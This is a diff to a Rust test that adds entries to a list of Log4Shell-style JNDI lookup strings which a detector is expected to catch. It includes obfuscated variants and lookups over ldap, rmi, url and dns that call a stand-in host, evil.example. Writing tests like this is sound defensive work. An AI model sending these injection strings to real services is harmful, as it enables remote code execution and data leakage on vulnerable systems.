@@ -79,6 +79,8 @@ fn lookups_are_caught_however_they_are_hidden() {
         true,
         &[
             "${jndi:ldap://evil.example/a}",
+            "${url:UTF-8:http://evil.example/}",
+            "${dns:address|evil.example}",
             "x ${JNDI:rmi://evil.example/a",
             "${${lower:j}ndi:ldap://x/a}",
             "${${lower:j}${upper:n}${lower:d}i:ldap://x/a}",
